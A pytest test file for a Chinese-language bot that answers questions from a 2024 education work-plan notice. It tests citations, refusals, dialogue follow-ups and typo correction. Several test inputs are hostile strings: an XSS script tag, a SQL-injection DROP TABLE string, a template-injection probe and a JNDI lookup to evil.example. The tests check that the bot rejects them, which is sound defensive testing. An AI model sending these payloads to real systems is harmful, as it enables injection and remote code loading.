"""The bot's second version on the real notice, real model and real index: sentence-level
evidence, answerability from the evidence, the dialogue state, and normalisation of what staff
type. Several phrasings per mechanism, including the failing examples quoted in issue 9."""
from __future__ import annotations

import re

import pytest

from bot.understand import correct, parse
from ingest.offices import OfficeTable

pytestmark = pytest.mark.slow


def rows(a):
    return [(c.month, c.offices) for c in a.citations if c.kind == "schedule"]


def items(a):
    return [c.item for c in a.citations if c.kind == "item"]


# --- sentence-level evidence ------------------------------------------------------------------------

def test_index_holds_sentence_children_pointing_to_their_item(bot):
    by_id = {r.id: r for r in bot.index.records}
    children = [r for r in bot.index.records if r.kind == "sentence"]
    assert children and all(by_id[c.parent].kind in ("item", "preamble") for c in children)
    assert all(c.text in by_id[c.parent].text for c in children)
    # Sentences are evidence, never citations: the citation names the parent item.
    a = bot.ask("师德不好的老师怎么处理?")
    assert items(a) == [19] and all(c.kind != "sentence" for c in a.citations)


@pytest.mark.parametrize("question,item", [
    ("师德不好的老师怎么处理?", 19), ("普惠性幼儿园覆盖率目标是多少?", 8),
    ("校外培训机构设置标准什么时候出台?", 7), ("一校一品认定多少所学校?", 2),
])
def test_answer_quotes_the_sentence_and_cites_its_item(bot, question, item):
    a = bot.ask(question)
    assert a.found and item in items(a)


@pytest.mark.parametrize("question", ["市级教育综合改革项目每年遴选培育多少项", "市级教育综合改革项目今年遴选多少项"])
def test_a_count_asked_after_its_thing_is_answered_by_that_classifier(bot, question):
    """Refused as 没有提到“综合改革项目每年遴选培育”: the 项 asked was matched with the notice's
    不少于20项 only when the thing followed the count (多少项项目)."""
    a = bot.ask(question)
    assert a.found and items(a) == [13] and "20项" in a.answer


def test_title_only_sentence_is_not_the_quoted_evidence(bot):
    a = bot.ask("双减政策今年有什么措施?")
    assert items(a) == [7]
    quote = next(c.quote for c in a.citations if c.kind == "item")
    assert quote.strip() != "巩固扩大“双减”成果。"


# --- answerability ---------------------------------------------------------------------------------

@pytest.mark.parametrize("question,said", [
    ("今年新建多少个校园食堂?", "校园食堂"),                   # figure about a different thing
    ("\"齐鲁名师\"培养计划今年选多少人?", "齐鲁名师"),         # quoted name the notice never uses
    ("“泉城名校长”工程今年有什么安排?", "泉城名校长"),
])
def test_absent_subject_is_named_in_the_refusal(bot, question, said):
    a = bot.ask(question)
    assert not a.found and said in a.answer and not a.citations


@pytest.mark.parametrize("question,named", [
    ("2021年工作要点有什么重点?", "2021年"), ("青岛市教育局今年有什么安排?", "青岛市"),
    ("青岛今年的教育工作要点有哪些?", "青岛"),
    # The notice writes 2023 (and 2025) in passing; a question about that year's plan is still refused.
    ("2023年的工作要点有什么重点", "2023年"), ("2025年工作要点里有哪些任务", "2025年"),
])
def test_other_years_and_places_are_refused_with_what_is_held(bot, question, named):
    a = bot.ask(question)
    assert not a.found and named in a.answer and "已收录" in a.answer and "2024年工作要点" in a.answer


@pytest.mark.parametrize("question", ["我家孩子该上民办还是公办初中?", "你觉得明年双减会不会取消?",
                                      "Should I send my kid to a private school?"])
def test_advice_and_predictions_are_declined(bot, question):
    a = bot.ask(question)
    assert not a.found


@pytest.mark.parametrize("question", ["<script>alert(1)</script>", "'; DROP TABLE records; --"])
def test_markup_and_code_are_not_questions(bot, question):
    a = bot.ask(question)
    assert not a.found and "代码或标记" in a.answer


def test_a_place_named_as_a_topic_is_not_refused_as_foreign(bot):
    a = bot.ask("援助新疆西藏的教育工作还继续吗?")
    assert "已收录的文件中没有" not in a.answer


# --- dialogue state --------------------------------------------------------------------------------

def test_who_of_the_meeting_just_asked_about(bot):
    first = bot.ask("全市教育工作会议是几月开?")
    assert len(rows(first)) == 1 and rows(first)[0][0] == 3
    a = bot.ask("这个会谁负责?", ["全市教育工作会议是几月开?"])
    assert rows(a) == rows(first) and "负责" in a.answer


@pytest.mark.parametrize("more", ["还有别的吗", "还有吗?", "其他的呢", "还有其他工作吗"])
def test_what_else_after_one_month_of_an_office_is_the_rest_of_its_year(bot, more):
    """还有别的吗 had been searched as a question of its own: the same two items whatever came before."""
    office = "职高教处"
    year = bot.corpus.filter_rows((), (office,))
    first = bot.ask(f"{office}3月做什么")
    a = bot.ask(more, [f"{office}3月做什么"])
    assert a.found and rows(a) and not set(rows(a)) & set(rows(first))
    assert len(rows(a)) + len(rows(first)) == len(year) and all(office in o for _, o in rows(a))


def test_what_else_after_a_whole_list_says_it_was_all_of_it(bot):
    n = len(bot.corpus.filter_rows((5,), ()))
    a = bot.ask("还有吗", ["5月有哪些工作"])
    assert f"共 {n} 项" in a.answer and "全部列出" in a.answer


def test_what_else_after_a_quote_is_the_whole_item(bot):
    first = bot.ask("学前教育普惠的目标是多少")
    [item] = set(items(first))
    a = bot.ask("还有别的吗", ["学前教育普惠的目标是多少"])
    whole = next(r for r in bot.corpus.items.values() if r.item == item)
    assert items(a) == [item] and whole.text[-20:] in a.answer


@pytest.mark.parametrize("turn", ["还有别的吗", "换个话题"])
def test_a_turn_with_nothing_to_go_on_asks_for_a_question(bot, turn):
    a = bot.ask(turn)
    assert not a.found and not a.citations and "例如" in a.answer


@pytest.mark.parametrize("opening", ["换个话题,", "换个问题:", "另外问一下,", "不说这个了,", "那换个话题吧,", "先不聊这个,"])
def test_a_new_topic_opening_starts_afresh_and_is_no_part_of_the_question(bot, opening):
    """换个话题,网络安全有什么要求 had been refused: 话题 was read as its subject."""
    history = ["食品安全专项整治什么时候开展", "谁负责"]
    plain = bot.ask("网络安全有什么要求")
    a = bot.ask(opening + "网络安全有什么要求", history)
    assert a.found and items(a) == items(plain) and "话题" not in a.answer


def test_a_short_when_follow_up_keeps_the_topic_of_the_figure_before(bot):
    """市校融合项目支持多少个 → 什么时候申报 had listed every row that says 申报 (three offices)."""
    every = [r for r in bot.corpus.filter_rows() if "申报" in r.text]
    of_it = [(r.month, r.offices) for r in every if "市校融合" in r.text]
    a = bot.ask("什么时候申报", ["市校融合项目支持多少个"])
    assert len(every) > len(of_it) >= 1 and a.found and rows(a) == of_it


def test_who_of_an_item_s_rows_says_none_writes_the_topic_asked(bot):
    """第7条讲什么 → 课后服务呢 → 那谁负责 had listed the item's rows as if they were 课后服务's."""
    a = bot.ask("那谁负责", ["第7条讲什么", "课后服务呢"])
    assert a.found and a.answer.startswith("配档表中没有写到“课后服务”的安排") and rows(a)
    b = bot.ask("几月份", ["学生体质健康有什么安排"])   # a row writes 体质: it alone, no such note
    assert "没有写到" not in b.answer and len(rows(b)) == 1


@pytest.mark.parametrize("follow_up", ["它是第几条里的?", "这项工作属于哪一条?"])
def test_which_item_the_task_belongs_to(bot, follow_up):
    a = bot.ask(follow_up, ["寄宿制培训机构管理办法什么时候制定?"])
    assert a.found and items(a) == [7] and "第7条" in a.answer and len(a.citations) == 1


def test_content_of_the_focus(bot):
    a = bot.ask("具体内容呢?", ["寄宿制培训机构管理办法什么时候制定?"])
    assert items(a) == [7] and "寄宿制培训机构管理办法" in a.answer


def test_when_of_the_item_just_read(bot):
    a = bot.ask("什么时候?", ["第18条讲什么?"])
    assert a.found and {m for m, _ in rows(a)} == {12} and 18 in items(a)


def test_scope_follow_ups_keep_working(bot):
    a = bot.ask("其中上半年的是哪些?", ["督导室有哪些工作?"])
    assert rows(a) and all(m <= 6 for m, _ in rows(a)) and all("督导室" in o for _, o in rows(a))


@pytest.mark.parametrize("earlier,follow_up,office", [
    (["体卫艺处3月份有啥活", "4月呢"], "那全年一共几项", "体卫艺处"),
    (["组织人事处5月有什么"], "全年的呢", "组织人事处"),
])
def test_the_whole_year_drops_the_months_of_the_last_turn(bot, earlier, follow_up, office):
    a = bot.ask(follow_up, earlier)
    everything = bot.corpus.filter_rows((), (office,))
    assert a.found and len(rows(a)) == len(everything) > 1
    assert len({m for m, _ in rows(a)}) > 1


@pytest.mark.parametrize("follow_up", ["具体要求写在第几条", "配档表里对应的是第几条", "这个在通知哪一条"])
def test_where_in_the_notice_a_task_is_written(bot, follow_up):
    first_q = "校园食品安全专项整治是哪个月的事"
    first = bot.ask(first_q)
    linked = {r.item for r in bot.corpus.items_of_rows(first.rows)}
    a = bot.ask(follow_up, [first_q])
    assert a.found and linked and set(items(a)) == linked and not rows(a)


@pytest.mark.parametrize("follow_up", ["配档表里对应哪几个月", "在配档表中是哪些月份"])
def test_which_months_carry_out_the_item_just_read(bot, follow_up):
    a = bot.ask(follow_up, ["第18条讲的啥"])
    item = next(r for r in bot.corpus.items.values() if r.item == 18)
    want = {r.id for r in bot.corpus.rows_of_items([item.id])}
    assert a.found and want and set(a.rows) == want


@pytest.mark.parametrize("follow_up,half", [("其中哪些放在下半年", range(7, 13)), ("其中上半年的呢", range(1, 7))])
def test_among_the_items_just_quoted_by_period(bot, follow_up, half):
    first_q = "职业教育有什么新安排"
    first = bot.ask(first_q)
    assert first.found and first.items and not first.rows
    item_ids = [c.record_id for c in first.citations if c.kind == "item"]
    carrying = {r.id for r in bot.corpus.rows_of_items(item_ids)}
    a = bot.ask(follow_up, [first_q])
    assert a.found and a.rows and set(a.rows) <= carrying
    assert all(m in half for m, _ in rows(a))


@pytest.mark.parametrize("follow_up", ["还有别的处参与吗", "这些由谁负责", "其他处室配合吗"])
def test_who_else_takes_part_in_the_task_just_named(bot, follow_up):
    earlier = ["教师节的活动几月搞"]
    first = bot.ask(earlier[0])
    a = bot.ask(follow_up, earlier)
    assert a.found and a.rows == first.rows and "负责" in a.answer


@pytest.mark.parametrize("earlier,follow_up", [
    (["市教研院下半年有啥任务"], "按月份排一下"), (["督导室有哪些工作"], "列个清单"),
])
def test_asking_to_lay_the_last_answer_out_again_repeats_its_rows(bot, earlier, follow_up):
    first = bot.ask(earlier[0])
    a = bot.ask(follow_up, earlier)
    assert first.rows and a.rows == first.rows


@pytest.mark.parametrize("earlier,follow_up", [(["五月有几项"], "哪个处最多"), ([], "哪个处室全年任务最多")])
def test_which_office_has_most_compares_offices_not_months(bot, earlier, follow_up):
    a = bot.ask(follow_up, earlier)
    assert a.found and "各处室" in a.answer and "各月" not in a.answer


@pytest.mark.parametrize("question,office,topic", [
    ("which month does 体卫艺处 do the 体质健康 spot check", "体卫艺处", "体质"),
    ("体卫艺处的体质健康抽查在几月", "体卫艺处", "体质"),
    ("基教处科学教育有哪些安排", "基教处", "科学教育"),
    ("基教处上半年跟科学教育有关的工作", "基教处", "科学教育"),
])
def test_an_office_s_rows_about_a_topic_are_only_those(bot, question, office, topic):
    a = bot.ask(question)
    everything = bot.corpus.filter_rows((), (office,))
    got = [bot.corpus.by_id[r] for r in a.rows]
    assert a.found and got and len(got) < len(everything)
    assert all(topic in r.text for r in got)


@pytest.mark.parametrize("question,office", [("体卫艺处负责近视防控吗", "体卫艺处"), ("体卫艺处负责校车吗", "体卫艺处")])
def test_a_topic_no_row_of_the_office_names_is_said_and_all_its_rows_follow(bot, question, office):
    a = bot.ask(question)
    assert "没有直接提到" in a.answer
    assert len(a.rows) == len(bot.corpus.filter_rows((), (office,)))


@pytest.mark.parametrize("question,office", [("市教研院负责的重点工作有哪些？", "市教研院"),
                                             ("职高教处要完成哪些工作", "职高教处"),
                                             ("督导室全年要干嘛", "督导室"), ("督导室都在忙些什么", "督导室")])
def test_words_for_work_in_general_filter_no_rows(bot, question, office):
    a = bot.ask(question)
    assert len(a.rows) == len(bot.corpus.filter_rows((), (office,))) and "没有直接提到" not in a.answer


def test_a_bare_follow_up_keeps_the_topic_of_the_schedule_question_before(bot):
    """体卫艺处的体质健康抽查在几月 → 那9月呢: the 9月 rows about 体质健康, or, when there are
    none, all of them with a note saying so."""
    first = bot.ask("基教处上半年跟科学教育有关的工作")
    a = bot.ask("那下半年呢", ["基教处上半年跟科学教育有关的工作"])
    everything = bot.corpus.filter_rows(tuple(range(7, 13)), ("基教处",))
    got = [bot.corpus.by_id[r] for r in a.rows]
    assert first.found and a.found and got
    assert all(r.month >= 7 for r in got)
    if any("科学教育" in r.text for r in everything):
        assert all("科学教育" in r.text for r in got)
    else:
        assert "没有直接提到" in a.answer and len(got) == len(everything)


@pytest.mark.parametrize("question", ["全年有哪些工作", "全年都要干啥"])
def test_the_whole_year_is_the_whole_schedule(bot, question):
    a = bot.ask(question)
    assert a.found and "全年" in a.answer and len(a.rows) == len(bot.corpus.schedule)


@pytest.mark.parametrize("question,office", [("6月职高教处有啥活儿", "职高教处"), ("基教处有哪些事项", "基教处")])
def test_colloquial_words_for_work_are_no_topic(bot, question, office):
    a = bot.ask(question)
    assert a.found and "没有直接提到" not in a.answer
    assert set(a.rows) == {r.id for r in bot.corpus.filter_rows(a.query.months, (office,))}


@pytest.mark.parametrize("first_q,follow_up,topic", [("学生体质健康有什么安排", "几月份", "体质"),
                                                     ("教师节有什么安排", "几月份", "教师节"),
                                                     ("教师节有什么安排", "谁负责", "教师节")])
def test_when_of_a_topic_lists_the_item_s_rows_about_it(bot, first_q, follow_up, topic):
    first = bot.ask(first_q)
    item_ids = [c.record_id for c in first.citations if c.kind == "item"]
    carrying = bot.corpus.rows_of_items(item_ids)
    a = bot.ask(follow_up, [first_q])
    got = [bot.corpus.by_id[r] for r in a.rows]
    assert got and all(topic in r.text for r in got) and len(got) < len(carrying)


@pytest.mark.parametrize("question", ["近视防控谁负责", "近视防控工作几月开展"])
def test_a_task_no_row_lists_names_the_item_that_speaks_of_all_its_words(bot, question):
    """Item 3's 廉政风险防控 shares 防控; the item to name is the one holding 近视 too."""
    a = bot.ask(question)
    cited = [bot.corpus.by_id[c.record_id] for c in a.citations if c.kind == "item"]
    assert not a.found and not a.rows and len(cited) == 1
    assert "近视" in cited[0].text and "防控" in cited[0].text


@pytest.mark.parametrize("question", ["基教处跟市教研院一起负责的工作有哪些", "基教处和市教研院共同负责哪些工作"])
def test_offices_named_as_working_together_get_the_rows_of_both(bot, question):
    a = bot.ask(question)
    canon = bot.corpus.offices.canonical
    got = [bot.corpus.by_id[r] for r in a.rows]
    assert a.found and got
    assert all({"基教处", "市教研院"} <= {canon(o) or o for o in r.offices} for r in got)


@pytest.mark.parametrize("question", ["职高教处和产业处哪个活多", "职高教处和产业处谁的任务更多"])
def test_which_of_two_offices_has_more_is_a_comparison(bot, question):
    a = bot.ask(question)
    assert a.found and "各处室" in a.answer and "职高教处" in a.answer and "产业处" in a.answer


@pytest.mark.parametrize("follow_up,position", [("其中第一条呢", 0), ("其中第三条讲的啥", 2)])
def test_the_nth_item_among_those_just_listed(bot, follow_up, position):
    first = bot.ask("第二部分讲什么")
    listed = items(first)
    a = bot.ask(follow_up, ["第二部分讲什么"])
    assert len(listed) >= 3 and items(a) == [listed[position]]


@pytest.mark.parametrize("question,topic", [("第7条里提到的寄宿制培训机构管理办法谁来定", "寄宿制"),
                                            ("第7条的寄宿制培训机构管理办法几月制定", "寄宿制")])
def test_who_of_a_task_named_within_an_item_is_that_task_s_row(bot, question, topic):
    a = bot.ask(question)
    got = [bot.corpus.by_id[r] for r in a.rows]
    assert a.found and got and all(topic in r.text for r in got)


@pytest.mark.parametrize("question", ["配档表里一共多少条", "附表一共有几项"])
def test_how_many_the_schedule_table_holds_counts_its_rows_not_the_items(bot, question):
    a = bot.ask(question)
    assert a.found and f"共 {len(bot.corpus.schedule)} 项" in a.answer


@pytest.mark.parametrize("question,earlier", [("哪个季度最多", []), ("哪个季度任务最少", []),
                                              ("哪个季度最多", ["上半年一共几项"])])
def test_which_quarter_has_most_compares_quarters(bot, question, earlier):
    a = bot.ask(question, earlier)
    counts = [int(n) for n in re.findall(r"第\d季度(\d+)项", a.answer)]
    months = range(1, 7) if earlier else range(1, 13)
    assert a.found and "各季度" in a.answer
    assert sum(counts) == len([r for r in bot.corpus.schedule if r.month in months])


def test_a_new_topic_starts_fresh(bot):
    a = bot.ask("普惠性幼儿园覆盖率目标是多少?", ["全市教育工作会议是几月开?"])
    assert items(a) == [8] and not rows(a)


# --- normalisation ---------------------------------------------------------------------------------

@pytest.mark.parametrize("question", ["督導室五月份有什麼任務?", "督导室５月份有什么任务?", "督导室５月有啥任务"])
def test_traditional_and_full_width_keep_the_office_and_month(bot, question):
    a = bot.ask(question)
    assert rows(a) and all(m == 5 and "督导室" in o for m, o in rows(a))


def test_near_miss_programme_name_is_corrected_and_said(bot):
    a = bot.ask("双剪政策今年有什么措施?")
    assert items(a) == [7] and "按“双减”理解" in a.answer


@pytest.mark.parametrize("question,said,answer", [
    ("校外陪训机构设置标准什么时候出台", "按“培训”理解", "7月"),
    ("薄若环节改善工程投资多少", "按“薄弱”理解", "2.88亿"),
    ("预访校园欺灵工作办法谁负责", "按“预防”、“欺凌”理解", "安管处"),
])
def test_a_slip_in_an_ordinary_word_of_the_notice_is_corrected_and_said(bot, question, said, answer):
    """Only programme names, offices and titles were corrected: 陪训 (培训), 薄若 (薄弱) were refused."""
    a = bot.ask(question)
    assert a.found and said in a.answer and answer in a.answer


def test_a_word_glued_from_a_function_character_is_no_slip(bot):
    # 能立 (能 + 立, how many can be set up) sounds like 能力, which the notice writes.
    assert not [m for _, m in bot.understand("跟本地大学合作的项目今年能立多少个").corrections if m == "能力"]


@pytest.mark.parametrize("question,typed,meant", [("校园天言工程是啥", "校园天言", "校园天眼"),
                                                  ("校园天言工程有什么要求", "校园天言", "校园天眼"),
                                                  # 泉引 and 泉悦 are no words: only parts of the names
                                                  ("泉引乔工程啥时候开现场会", "泉引乔", "泉引桥"),
                                                  ("泉悦毒读书工程怎么搞", "泉悦毒", "泉悦读")])
def test_a_slip_in_the_last_character_of_a_programme_name_is_corrected(bot, question, typed, meant):
    """校园天 occurs in the notice only inside 校园天眼, so 校园天言 is no ordinary text."""
    q = bot.understand(question)
    assert (typed, meant) in q.corrections
    assert bot.ask(question).found


@pytest.mark.parametrize("question", ["哪个处室负责教师节", "哪个处室牵头"])
def test_an_ordinary_word_next_to_an_office_name_is_not_corrected(bot, question):
    assert bot.understand(question).corrections == ()


def test_correction_is_pure_and_leaves_known_words_alone():
    vocab = frozenset(["双减", "泉引桥", "全环境立德树人"])
    assert correct("双剪政策", vocab, "双减") == ("双减政策", (("双剪", "双减"),))
    assert correct("全环竟立德树人", vocab, "全环境立德树人")[0] == "全环境立德树人"   # one inner char off
    assert correct("双减政策", vocab, "双减政策") == ("双减政策", ())
    assert correct("6月基教处", vocab, "") == ("6月基教处", ())


def test_office_alias_and_traditional_parse_without_an_index():
    q = parse("政策法規處6月有啥活", OfficeTable.load(), {})
    assert q.offices == ("政法处",) and q.months == (6,) and q.intent == "schedule"


# --- second round: what the first review of bot v2 found -------------------------------------------

@pytest.mark.parametrize("follow_up,refers", [("第几条?", "item"), ("出自哪一条", "item"),
                                               ("具体内容是什么?", "content"), ("详细说说", "content")])
def test_a_bare_follow_up_after_a_schedule_answer_asks_about_its_rows(bot, follow_up, refers):
    """Read before the last question's months and offices are inherited, or 第几条? would be a
    schedule question again."""
    q = bot.understand(follow_up, ["7月份民继处有哪些工作?"])
    assert q.intent == "focus" and q.refers == refers and q.focus_rows


@pytest.mark.parametrize("follow_up", ["那基教处的全称呢", "基教处全称是什么"])
def test_a_self_contained_follow_up_is_not_merged_into_the_schedule(bot, follow_up):
    a = bot.ask(follow_up, ["6月份基教处要完成哪些工作?"])
    assert a.found and "基础教育处" in a.answer and not rows(a)


@pytest.mark.parametrize("question", ["第九部分讲什么", "第十二部分有哪些条目"])
def test_a_section_the_notice_lacks_is_said_to_be_missing(bot, question):
    a = bot.ask(question)
    held = len(bot.sections)
    assert not a.found and not a.citations and f"共 {held} 个部分" in a.answer


@pytest.mark.parametrize("question", ["你好啊哈哈", "谢谢", "hello", "您好,在吗"])
def test_greetings_are_not_answered_from_the_notice(bot, question):
    a = bot.ask(question)
    assert not a.found and not a.citations


def test_a_greeting_with_a_question_is_answered(bot):
    assert rows(bot.ask("你好,7月民继处有什么任务")) == [(7, ("民继处",))]


@pytest.mark.parametrize("question", ["娃小升初 选民办好还是公办好啊", "你个人觉得双减到底有没有用?",
                                      "课后服务有没有用", "你怎么看集团化办学"])
def test_choices_and_opinions_are_declined(bot, question):
    assert not bot.ask(question).found


@pytest.mark.parametrize("question", ["{{7*7}} ${jndi:ldap://evil.example/a}", "{% for x in y %}{{x}}{% endfor %}"])
def test_template_and_lookup_strings_are_not_questions(bot, question):
    a = bot.ask(question)
    assert not a.found and not a.citations


@pytest.mark.parametrize("question", ["烟台今年新增多少学位", "青岛今年有什么教育工作安排"])
def test_a_city_named_without_its_suffix_is_still_a_place(bot, question):
    a = bot.ask(question)
    assert not a.found and "已收录" in a.answer


def test_an_abbreviation_of_a_notice_term_counts_as_mentioned(bot):
    """普惠园 is 普惠性幼儿园 shortened: not an absent subject."""
    from bot.text import mentions

    assert mentions("普惠性幼儿园覆盖率", "普惠园") and not mentions("书香校园", "食堂")
    a = bot.ask("普惠园覆盖率今年定的多少")
    assert a.found and 8 in items(a)


def test_a_reworded_schedule_row_still_links_to_its_item(bot):
    """A row sharing too few 4-character runs with its item is linked by character pairs."""
    a = bot.ask("它是第几条里的?", ["教师节活动谁牵头"])
    assert a.found and items(a) and "教师节" in bot.record(a.citations[0].record_id).text


def test_the_not_found_spread_equals_scoring_every_record(bot):
    """The similarity mean and spread come from the vectors' moments, not from ranking all
    records per question: the same figures."""
    import numpy as np

    from bot.scope import _spread

    idx = bot.index
    text = "学校食堂安全有什么措施"
    scores = np.array([s for _, s in idx.rank_dense(text, len(idx.records))])
    mean, std = _spread(idx, text)
    assert mean == pytest.approx(scores.mean(), abs=1e-5) and std == pytest.approx(scores.std(), abs=1e-5)


def _row(bot, start):
    return next(r for r in bot.corpus.schedule if r.text.startswith(start))


def _linked_texts(bot, row):
    return [item.text for item, _ in bot.corpus.links[row.id]]


def test_a_row_sharing_phrases_with_several_items_links_to_the_nearest_in_meaning(bot):
    """Shared 4-character runs alone link 启动中考招生工作…初中学业水平考试… to the item on 中职学校学业
    水平考试试点 (3 runs) over the one on 完善中考招生制度 (2); ranked by meaning, the 中考招生 item
    comes first. 中职学校办学质量 rows share 办学质量 equally with the 普通高中办学质量达标 item and the
    中职 one: only the 中职 item is theirs."""
    first = _linked_texts(bot, _row(bot, "启动中考招生工作"))
    assert first and "中考招生" in first[0]
    for start in ("开展中职学校办学质量过程性评价", "开展中职学校办学质量年度考核"):
        texts = _linked_texts(bot, _row(bot, start))
        assert texts and all("中职" in t for t in texts) and not any("普通高中学校办学质量达标" in t for t in texts)


def test_a_row_naming_two_items_nearly_as_well_links_to_both(bot):
    """…党建和全面从严治党工作会议 carries out the 党建 item and the 全面从严治党 one: meaning alone had
    kept only the first (h22's review)."""
    texts = _linked_texts(bot, _row(bot, "召开2024年度全市教育系统党建和全面从严治党工作会议"))
    assert len(texts) == 2 and any("全面从严治党" in t for t in texts)


def test_links_by_meaning_load_neither_index_nor_model(bot):
    """The meanings compared are the stored vectors of the row and of the items' sentences: a fresh
    bot answering a schedule question links its rows without loading the index or the model."""
    from bot.core import Bot

    fresh = Bot.load(index_path=bot.index.path)
    row = _row(fresh, "启动中考招生工作")
    assert "中考招生" in _linked_texts(fresh, row)[0]
    assert not fresh.corpus.index_loaded and fresh.corpus._vectors is not False


def test_rows_are_linked_on_first_use_only(bot):
    """A corpus of many notices starts without linking every row to its items."""
    from bot.corpus import Corpus

    c = Corpus(list(bot.corpus.records), bot.corpus.offices)
    assert not c.links._done and not c._item_grams
    row = c.schedule[0]
    assert c.links[row.id] == bot.corpus.links[row.id]
    assert set(c.links._done) == {row.id} and set(c._item_grams) == {row.doc_id}


@pytest.mark.parametrize("question,name", [
    ("泉优计划是什么", "泉优计划"), ("鲁苗工程今年怎么推进?", "鲁苗工程"),
    ("泉芯行动有哪些安排", "泉芯行动"), ("岱青工作室什么时候成立", "岱青工作室"),
])
def test_a_coined_programme_name_the_notice_lacks_is_refused_by_name(bot, question, name):
    a = bot.ask(question)
    assert not a.found and f"“{name}”" in a.answer and not a.citations


@pytest.mark.parametrize("question,item", [
    ("阅读推广工程有什么安排", 5),          # common words before the head: may paraphrase a programme
    ("泉悦读工程是什么", 5),                # the notice's own name
    ("名师建设工程遴选多少人", 19),
])
def test_a_programme_the_notice_names_or_paraphrases_is_answered(bot, question, item):
    a = bot.ask(question)
    assert a.found and item in items(a)


@pytest.mark.parametrize("question,named,not_named", [
    ("班主任津贴每月多少", "“班主任津贴”", "每月"),
    ("齐鲁名师培养计划今年选多少人?", "“齐鲁名师培养计划”", "今年选"),
    ("泉城名校长工程这期选几个校长?", "", "几个"),        # words that name nothing are never "missing"
])
def test_a_refusal_names_the_subject_not_the_words_around_it(bot, question, named, not_named):
    a = bot.ask(question)
    assert not a.found and named in a.answer and not_named not in a.answer


@pytest.mark.parametrize("question,unit", [("今年新建改扩建多少所学校", "所"), ("乡村骨干教师培训多少名", "名")])
def test_a_figure_in_the_classifier_asked_answers_a_count_named_otherwise(bot, question, unit):
    """学校 is not in 开工新建改扩建中小学、幼儿园60所, but 60所 counts what 多少所 asks."""
    a = bot.ask(question)
    quoted = "".join(c.quote for c in a.citations)
    assert a.found and re.search(rf"\d\s*{unit}", quoted)


def test_a_subject_the_notice_speaks_of_is_not_called_unmentioned(bot):
    """课后服务 is in the notice; its fee is not: the refusal must not claim the notice never
    mentions 课后服务."""
    a = bot.ask("课后服务每个月收多少钱")
    assert not a.found and "课后服务" not in a.answer


def test_a_word_jieba_guesses_across_a_boundary_is_not_a_missing_term(bot):
    """实验校要遴选 is cut 实验/校要/遴选 by jieba's HMM; 校要 is in no evidence and names nothing."""
    tok = bot.corpus.index.tokenizer
    assert "校要" in tok.words("实验校要遴选几所") and "校要" not in tok.dictionary_words("实验校要遴选几所")
    assert "".join(tok.dictionary_words("数实融合发展项目实验校要遴选")) == "数实融合发展项目实验校要遴选"
    a = bot.ask("数实融合发展项目实验校要遴选几所?")
    assert a.found and 16 in items(a) and "4所" in a.answer
    a = bot.ask("实验校要遴选多少所")
    assert "校要" not in a.answer


@pytest.mark.parametrize("question,item,figure", [
    ("How many new school places (学位) will be added in 2024?", 18, "4万"),   # not any sentence dated 2024
    ("How much is invested in the 义务教育薄弱环节 project?", 18, "2.88亿"),
    ("How many 书香校园 will be built?", 5, "50所"),
])
def test_an_english_figure_question_quotes_the_retrieved_sentence(bot, question, item, figure):
    a = bot.ask(question)
    assert a.found and items(a) == [item] and figure in a.answer


@pytest.mark.parametrize("question", ["济南的学前教育有什么安排", "济南市学前教育有啥安排", "2024年学前教育有什么安排"])
def test_the_notices_own_place_and_year_do_not_steer_the_search(bot, question):
    """济南 is written in most of a 济南 notice's items: once it has chosen the notice, it is left out
    of the search (and of the answerability signals)."""
    a = bot.ask(question)
    assert a.found and items(a)[0] == 8


@pytest.mark.parametrize("question,item", [
    ("泉悦读读书工程归哪个处管", 5), ("泉悦读工程谁负责", 5), ("近视防控归谁管", 6),
])
def test_who_of_a_task_no_row_lists_names_its_item_not_another_row(bot, question, item):
    """A row sharing only 工程 with the question is another task: no row is cited, and the item
    that speaks of the task is named, the question not answered."""
    a = bot.ask(question)
    assert not a.found and rows(a) == [] and items(a) == [item] and "配档表中没有列出" in a.answer


def test_a_when_question_about_a_named_thing_no_row_lists_is_not_answered_by_a_row_sharing_its_verb(bot):
    """空天信息大学 (jieba: 空天 + 信息 + 大学, all commoner than 招生) is the task asked about; the
    中考招生 and 高中招生 rows, which share only 招生, had been listed as its answer."""
    a = bot.ask("空天信息大学什么时候开始招生")
    assert not a.found and rows(a) == [] and "第12条" in a.answer


@pytest.mark.parametrize("question", ["校车安全谁负责", "校车什么时候检查", "教师资格证考试啥时候报名"])
def test_a_when_who_question_about_a_thing_the_notice_never_names_lists_no_row(bot, question):
    """校车 (never written in the notice, rarer than 安全 / 检查) is the task asked about: the 安全
    and 检查 rows, which share only the commoner word, had been listed as its answer."""
    a = bot.ask(question)
    assert not a.found and rows(a) == []


@pytest.mark.parametrize("turns", [["全市教育工作会议在哪里办"], ["校园心理剧展演在什么地方举行"],
                                   ["全市教育工作会议几月开", "这个会在哪开"]])
def test_where_a_task_takes_place_is_said_to_be_unwritten_with_its_row(bot, turns):
    """The notice gives the task's month and offices but no place: the row is pointed to, not
    answered as if it said where (an item sharing 会议 had been quoted)."""
    a = bot.ask(turns[-1], turns[:-1])
    assert not a.found and "没有写明地点" in a.answer and rows(a)


@pytest.mark.parametrize("question", ["全市教育工作会议是几号", "教师节表彰哪天举行"])
def test_a_day_asked_is_answered_with_the_month_and_says_the_day_is_not_given(bot, question):
    a = bot.ask(question)
    assert a.found and len(rows(a)) == 1 and "没有写具体日期" in a.answer


def test_the_plan_for_a_piece_of_work_adds_its_rows_about_it(bot):
    """教育评价改革有哪些安排 had quoted item 13 alone; its two 配档表 rows on 评价改革 lay out the plan."""
    a = bot.ask("教育评价改革有哪些安排")
    assert a.found and 13 in items(a)
    cited = [bot.corpus.by_id[x.record_id] for x in a.citations if x.kind == "schedule"]
    assert sorted(r.month for r in cited) == [10, 11] and all("评价改革" in r.text for r in cited)


def test_the_plan_for_work_no_row_speaks_of_adds_no_rows(bot):
    a = bot.ask("校园足球有什么安排")
    assert a.found and 6 in items(a) and rows(a) == []


def test_the_item_nearest_a_task_no_item_names_is_not_said_to_speak_of_it(bot):
    """教师编制考试 is in no item; item 19 (teachers) had been called the one that speaks of it."""
    a = bot.ask("教师编制考试几月份报名")
    assert not a.found and "讲到它" not in a.answer and "最相关" in a.answer
    assert "讲到它" in bot.ask("近视防控谁负责").answer


def test_when_and_where_asked_together_gets_the_month_and_says_the_place_is_not_given(bot):
    a = bot.ask("全市教育工作会议什么时候在哪里开")
    assert a.found and [m for m, _ in rows(a)] == [3] and "没有写明地点" in a.answer


def test_a_length_of_time_the_notice_does_not_give_is_not_answered(bot):
    """全市教育工作会议开几天 had been answered with its 3月 row, as if a month were a length."""
    a = bot.ask("全市教育工作会议开几天")
    assert not a.found and [m for m, _ in rows(a)] == [3]
